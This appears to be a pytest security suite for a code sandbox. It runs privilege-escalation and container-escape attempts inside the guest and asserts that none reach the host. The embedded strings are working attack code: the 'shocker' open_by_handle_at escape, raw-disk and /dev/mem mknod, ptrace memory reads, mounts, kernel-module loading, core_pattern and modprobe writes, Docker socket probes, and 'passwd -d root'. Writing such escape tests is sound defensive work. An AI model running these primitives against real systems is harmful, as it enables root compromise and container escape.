"""Privilege escalation primitives: setuid binaries, capabilities (raw disk, file handles,
chown), ptrace, mount, kernel modules and kernel settings, the Docker socket. Each attempt
that worked would either say so (`!` attempts) or show on the host: the secret coming back,
a root-owned setuid file or a mount under the test folders, a kernel setting changed, the
Docker daemon's id in the reply."""

from __future__ import annotations

import contextlib
import hashlib
import os
import stat
from pathlib import Path

import pytest

from tests.conftest import IN_CI

from ._arena import EMULATED, Arena
from ._plant import restored

pytestmark = [pytest.mark.anyio, pytest.mark.security, pytest.mark.slow]

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
RAW_DISK_BYTES = 65536

LIBC = """
import ctypes, ctypes.util, os
def libc_call(name, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    result = getattr(libc, name)(*args)
    if result == -1:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    return result
"""

SETUID = """
import os, stat, subprocess, sys, shutil
def setuid_files():
    found = []
    for top in ("/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/local/bin"):
        for root, dirs, files in os.walk(top):
            for name in files:
                path = os.path.join(root, name)
                try:
                    mode = os.lstat(path).st_mode
                except OSError:
                    continue
                if mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(path)
    return found
attempt("setuid files", setuid_files)
def run(command):
    done = subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
    return done.returncode, done.stdout[-200:], done.stderr[-200:]
for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["passwd", "-d", "root"]):
    attempt(" ".join(command), run, command)
def root_by_setuid():
    for path in setuid_files()[:6]:
        subprocess.run([path], capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
    return os.geteuid()
attempt("run every setuid file", root_by_setuid)
attempt("!setuid(0)", lambda: os.setuid(0))
attempt("!setresuid(0)", lambda: os.setresuid(0, 0, 0))
def own_setuid_copy():
    shutil.copy(sys.executable, "py-suid")
    os.chmod("py-suid", 0o4755)
    return run(["./py-suid", "-c", "import os; print(os.geteuid())"])
attempt("setuid copy", own_setuid_copy)
attempt("!chown to root", lambda: (open("own", "w").close(), os.chown("own", 0, 0)))
report()
"""

CAPABILITIES = (
    LIBC
    + """
import os, stat, hashlib
def caps():
    lines = open("/proc/self/status").read().splitlines()
    return [l for l in lines if l.startswith(("Cap", "NoNewPrivs", "Seccomp", "Uid"))]
attempt("status", caps)
def raw_disk():
    dev = os.stat("/workspace").st_dev
    os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(os.major(dev), os.minor(dev)))
    with open("/tmp/disk", "rb") as f:
        return hashlib.sha256(f.read(RAW_DISK_BYTES)).hexdigest()
attempt("!mknod raw disk", raw_disk)
def dev_mem():
    os.mknod("/tmp/mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    with open("/tmp/mem", "rb") as f:
        return f.read(16)
attempt("!mknod /dev/mem and read it", dev_mem)
def shocker():
    # CAP_DAC_READ_SEARCH: open the host file system's root by a forged handle (inode 2).
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 8)]
    handle = Handle(8, 1)
    handle.f[0] = 2
    anchor = os.open("/workspace", os.O_RDONLY)
    fd = libc_call("open_by_handle_at", anchor, ctypes.byref(handle), os.O_RDONLY)
    names = SECRET_PATH.strip("/").split("/")
    for name in names[:-1]:
        fd = os.open(name, os.O_RDONLY, dir_fd=fd)
    return os.read(os.open(names[-1], os.O_RDONLY, dir_fd=fd), 200)
attempt("!open_by_handle_at", shocker)
attempt("!setns to pid 1 net",
        lambda: libc_call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0))
report()
"""
)

PTRACE = (
    LIBC
    + """
import os, ctypes
def attach(pid):
    return libc_call("ptrace", 16, pid, None, None)  # PTRACE_ATTACH
def visible():
    return {int(p) for p in os.listdir("/proc") if p.isdigit()}
try:
    pids = sorted(({1, os.getppid()} | visible()) - {os.getpid()})
except (AttributeError, OSError) as exc:  # no processes to see (wasm, Pyodide)
    pids = []
    _RESULTS["pids"] = type(exc).__name__
for pid in pids[:8]:
    attempt("!attach %d" % pid, attach, pid)
    attempt("mem %d" % pid, read, "/proc/%d/mem" % pid)
    attempt("environ %d" % pid, read, "/proc/%d/environ" % pid)
def vm_read(pid):
    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(64)
    local, remote = IoVec(ctypes.addressof(buf), 64), IoVec(0x400000, 64)
    return libc_call("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
attempt("!process_vm_readv 1", vm_read, 1)
report()
"""
)

MOUNT = (
    LIBC
    + """
import os, subprocess
def mount(source, target, kind, flags=0):
    os.makedirs(target, exist_ok=True)
    return libc_call("mount", source.encode(), target.encode(), kind.encode(), flags, None)
attempt("!mount tmpfs", mount, "none", "/workspace/m-tmpfs", "tmpfs")
attempt("!mount proc", mount, "proc", "/workspace/m-proc", "proc")
attempt("!bind /", mount, "/", "/workspace/m-bind", "", 4096)
attempt("!remount / rw", mount, "none", "/", "", 32)  # MS_REMOUNT
def in_new_namespaces():
    libc_call("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    return mount("none", "/workspace/m-userns", "tmpfs")
attempt("unshare, then mount", in_new_namespaces)
def mount_command():
    done = subprocess.run(["mount", "-t", "tmpfs", "none", "/workspace/m-cmd"],
                          capture_output=True, timeout=2)
    return done.returncode, done.stderr[-200:]
attempt("mount command", mount_command)
report()
"""
)

KERNEL = (
    LIBC
    + """
import os, platform
calls = {"init_module": 175, "delete_module": 176, "finit_module": 313}
if platform.machine() == "x86_64":
    image = b"\\x7fELF" + b"\\0" * 60
    attempt("!init_module", libc_call, "syscall", calls["init_module"], image, len(image), b"")
    open("empty.ko", "wb").close()
    fd = os.open("empty.ko", os.O_RDONLY)
    attempt("!finit_module", libc_call, "syscall", calls["finit_module"], fd, b"", 0)
    attempt("!delete_module", libc_call, "syscall", calls["delete_module"], b"sg_none", 0)
attempt("modules", read, "/proc/modules")
attempt("core_pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").write(
    "|/bin/false " + MARKER))
attempt("modprobe path", lambda: open("/proc/sys/kernel/modprobe", "w").write("/tmp/x"))
attempt("uevent_helper", lambda: open("/sys/kernel/uevent_helper", "w").write("/tmp/x"))
attempt("!kmsg", read, "/dev/kmsg", 4096)
report()
"""
)

DOCKER_SOCKET = """
import os, socket, stat
def ask(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(b"GET /info HTTP/1.0\\r\\n\\r\\n")
        return s.recv(8192)
    finally:
        s.close()
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/docker/containerd/containerd.sock"):
    attempt("!" + path, ask, path)
def sockets():
    found = []
    for top in ("/run", "/var/run", "/tmp", "/"):
        try:
            names = os.listdir(top)
        except OSError:
            continue
        for name in names:
            path = os.path.join(top, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.append(path)
            except OSError:
                pass
    return found
attempt("unix sockets", sockets)
def tcp(port):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        return "connected"
    finally:
        s.close()
attempt("!dockerd tcp 2375", tcp, 2375)
report()
"""


def _state_device_head(folder: Path) -> str | None:
    """The sha256 of the first bytes of the block device holding `folder` (as root)."""
    dev = folder.stat().st_dev
    for entry in os.scandir("/dev"):
        with contextlib.suppress(OSError):
            st = entry.stat(follow_symlinks=False)
            if stat.S_ISBLK(st.st_mode) and st.st_rdev == dev:
                with open(entry.path, "rb") as f:
                    return hashlib.sha256(f.read(RAW_DISK_BYTES)).hexdigest()
    return None


def _docker_id() -> str | None:
    """The local daemon's id (the needle a reached socket would show); None when no daemon
    answers here, which CI never accepts (its dockerd is required)."""
    import docker

    try:
        client = docker.APIClient(timeout=10)
        try:
            return str(client.info()["ID"])
        finally:
            client.close()
    except docker.errors.DockerException:
        if IN_CI:
            raise
        return None


async def test_setuid_binaries(arena: Arena) -> None:
    outcome = await arena.attack(SETUID)
    await arena.verify(outcome, statuses={"ok", "timeout"}, admissions=arena.engine not in EMULATED)


async def test_capabilities(arena: Arena) -> None:
    code = f"RAW_DISK_BYTES = {RAW_DISK_BYTES}\n" + CAPABILITIES
    outcome = await arena.attack(code)
    head = _state_device_head(arena.target.state_dir)
    await arena.verify(
        outcome,
        statuses={"ok"},
        needles=(head,) if head else (),
        admissions=arena.engine not in EMULATED,
    )


async def test_ptrace(arena: Arena) -> None:
    outcome = await arena.attack(PTRACE)
    await arena.verify(outcome, statuses={"ok"}, admissions=arena.engine not in EMULATED)


async def test_mount(arena: Arena) -> None:
    outcome = await arena.attack(MOUNT)
    await arena.verify(outcome, statuses={"ok"}, admissions=arena.engine not in EMULATED)


async def test_kernel_modules_and_settings(arena: Arena) -> None:
    modules = Path("/proc/modules")
    before = modules.read_text() if modules.exists() else None
    with restored(CORE_PATTERN):
        outcome = await arena.attack(KERNEL)
        pattern = CORE_PATTERN.read_text() if CORE_PATTERN.exists() else ""
    assert arena.plant.marker not in pattern, "the guest changed the host's core_pattern"
    assert (modules.read_text() if modules.exists() else None) == before
    await arena.verify(outcome, statuses={"ok"}, admissions=arena.engine not in EMULATED)


async def test_docker_socket(arena: Arena) -> None:
    outcome = await arena.attack(DOCKER_SOCKET)
    daemon = _docker_id()
    await arena.verify(
        outcome,
        statuses={"ok"},
        needles=(daemon,) if daemon else (),
        admissions=arena.engine not in EMULATED,
    )
